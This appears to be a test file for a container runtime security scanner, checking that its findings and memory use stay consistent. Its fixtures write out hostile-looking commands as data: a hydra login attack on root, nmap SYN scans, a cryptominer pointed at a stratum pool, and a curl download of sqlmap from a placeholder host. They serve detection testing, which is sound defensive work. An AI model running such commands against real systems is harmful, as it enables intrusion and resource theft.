/** Remembering what was said of a container changes no finding. */

import assert from 'node:assert/strict'
import t from 'tap'
import { loadToolCatalogue } from '../../src/adapters/tool-catalogue-file.js'
import type { AdmissionJournal } from '../../src/correlator/admission-journal.js'
import { createAdmissionLookup } from '../../src/correlator/admission-lookup.js'
import { detectCoverage } from '../../src/correlator/coverage-detection.js'
import { createDetectionContext, type DetectionTools } from '../../src/correlator/detection-context.js'
import { createDetector } from '../../src/correlator/detector.js'
import { detectDrift } from '../../src/correlator/drift-detection.js'
import { decodeEvent, type EventPod, type ExecEvent } from '../../src/correlator/exec-event.js'
import { FindingStore } from '../../src/correlator/finding-store.js'
import { detectImage } from '../../src/correlator/image-detection.js'
import { detectTool } from '../../src/correlator/tool-detection.js'
import {
  AFTER_START,
  containerOf,
  eventOf,
  imageRecord,
  journalOf,
  lineOf,
  podOf,
  recordOf,
} from '../support/events.js'
import { createEventDecoder } from '../support/line-reader.js'
import { policyOf } from '../support/policies.js'
import { fc } from '../support/properties.js'
import { FILES, linesOf } from '../support/recorded-lines.js'
import { settledHeap } from '../support/settled-heap.js'

const HOUR = 3_600_000
const MEGABYTE = 1_000_000
const EXCEPTED = policyOf({
  allow: ['registry.k8s.io/*', 'docker.io/library/*'],
  tags: { deny: ['7'] },
  exceptions: [
    {
      id: 'E-1',
      images: ['docker.io/library/redis', 'quay.io/*'],
      tools: ['nmap'],
      namespaces: ['*'],
      reason: 'test',
      owner: 'me',
      from: new Date(AFTER_START - HOUR).toISOString(),
      expires: new Date(AFTER_START).toISOString(),
    },
  ],
})

t.test('findings are the same when every line is parsed and every event judged anew', async t => {
  const catalogue = await loadToolCatalogue(EXCEPTED.runtime)
  const tools = (policy: DetectionTools['policy'], journal?: AdmissionJournal): DetectionTools => ({
    policy,
    catalogue,
    // A clock that goes on: what the journal said is asked again and again.
    admissions: createAdmissionLookup(journal, clock()),
    asOf: undefined,
    policyPaths: [],
  })
  const strict = policyOf({ allow: ['registry.k8s.io/*'] })
  const journal = journalOf([recordOf({ images: [imageRecord({ written: 'quay.io/x/y:1' })] })])
  const generated = generatedLines()
  for (const name of FILES) {
    const lines = linesOf(name)
    assert.deepEqual(findFast(lines, tools(strict)), findSlow(lines, tools(strict)), name)
  }
  for (const policy of [strict, EXCEPTED]) {
    for (const from of [undefined, journal]) {
      const found = findFast(generated, tools(policy, from))
      t.ok(found.length > 0)
      assert.deepEqual(found, findSlow(generated, tools(policy, from)))
    }
  }
})

t.test('no finding and no memory holds on to the long command lines that they say something about', async t => {
  const policy = policyOf({ allow: ['registry.k8s.io/*'] })
  const tools: DetectionTools = {
    policy,
    catalogue: await loadToolCatalogue(policy.runtime),
    admissions: createAdmissionLookup(undefined, () => 0),
    asOf: undefined,
    policyPaths: [],
  }
  const detect = createDetector(tools)
  const store = new FindingStore(policy)
  // The scanner gives out the same object for as long as it remembers a container.
  const pods: EventPod[] = []
  const observe = (index: number): void => {
    for (const [binary, text] of longCommands(index)) {
      const pod = podOf({ workload: `web-${index}`, uid: `uid-${index}` })
      // Decoded: its strings are its own, and flat, as those of a source are.
      const decoded = decodeEvent(lineOf(eventOf({ binary, arguments: `${text} ${'x'.repeat(MEGABYTE)}` })))
      assert(decoded.type === 'exec')
      const event = { ...decoded.event, pod }
      for (const observation of detect(event)) store.observe(event, observation)
      pods.push(pod)
    }
  }
  for (let index = 0; index < 2; index += 1) observe(index)
  const before = settledHeap()
  for (let index = 2; index < 22; index += 1) observe(index)
  const growth = settledHeap() - before
  t.equal(pods.length, 154)
  t.ok(store.takeUpdates().length >= 100)
  t.ok(growth < 10 * MEGABYTE, `grew by ${growth} bytes over 140 command lines of a megabyte each`)
})

/** Tools by their name, in a shell's text, by what they say, fetched; a program of no file; names that nobody knows. */
function longCommands(index: number): readonly (readonly [string, string])[] {
  return [
    ['/usr/bin/hydra', `-l root ${index}`],
    ['/bin/sh', `-c "exec /opt/some-folder-${index}/nmap-7.94-static -sS 10.0.0.${index}"`],
    ['/opt/program-of-no-name', `--donate-level=1 ${index} -o stratum+tcp://pool:1`],
    ['/bin/bash', `-c "curl -O http://host-${index}.example/sqlmap.zip ; another-program-${index}`],
    // Two units of text a character: cut by characters, nothing is left out of the first thousand units.
    ['/usr/bin/masscan', `${index} ${'\u{1f4a5}'.repeat(600)}`],
    ['/dev/fd/7', `${index}`],
    ['/usr/bin/env', `a-program-that-nobody-has-ever-seen-${index}`],
  ]
}

function clock(): () => number {
  let now = 0
  return () => {
    now += 500
    return now
  }
}

/** A few containers and tools, again and again, on both sides of the moment when an exception ends. */
function generatedLines(): readonly Buffer[] {
  const image = fc.constantFrom('docker.io/library/redis:7', 'quay.io/x/y:1', 'registry.k8s.io/pause:3.10', 'sha256:0')
  const pod = fc
    .tuple(fc.constantFrom('web-1', 'web-2'), fc.constantFrom('uid-1', 'uid-2'), image, fc.boolean())
    .map(([name, uid, imageName, isExecProbe]) =>
      podOf({ name, uid, container: containerOf({ imageName, isExecProbe }) }),
    )
  const event = fc
    .record({
      pod: fc.option(pod, { nil: undefined }),
      docker: fc.constantFrom(undefined, 'c'.repeat(31)),
      binary: fc.constantFrom('/usr/bin/nmap', '/bin/sh', '/usr/bin/true', '/dev/fd/3'),
      arguments: fc.constantFrom(undefined, '-c "nmap -sS 10.0.0.1"', '-sS 10.0.0.1'),
      flags: fc.constantFrom(['execve'], ['procFS'], ['execve', 'dataArgs']),
      time: fc.integer({ min: AFTER_START - 2 * HOUR, max: AFTER_START + HOUR }),
      clusterName: fc.constantFrom('cluster-1', 'cluster-2'),
    })
    .map(changes => Buffer.from(lineOf(eventOf(changes))))
  return fc.sample(event, { numRuns: 800, seed: 7 })
}

function findFast(lines: readonly Buffer[], tools: DetectionTools) {
  const decode = createEventDecoder()
  const detect = createDetector(tools)
  const store = new FindingStore(tools.policy)
  for (const line of lines) {
    const decoded = decode(line)
    if (decoded.type !== 'exec') continue
    for (const observation of detect(decoded.event)) store.observe(decoded.event, observation)
  }
  return store.takeUpdates()
}

function findSlow(lines: readonly Buffer[], tools: DetectionTools) {
  const store = new FindingStore(tools.policy)
  for (const line of lines) {
    const decoded = decodeEvent(line)
    if (decoded.type === 'exec') observeAnew(decoded.event, tools, store)
  }
  return store.takeUpdates()
}

function observeAnew(event: ExecEvent, tools: DetectionTools, store: FindingStore): void {
  const context = createDetectionContext(tools, event)
  for (const detect of [detectTool, detectImage, detectDrift, detectCoverage]) {
    for (const observation of detect(event, context)) store.observe(event, observation)
  }
}
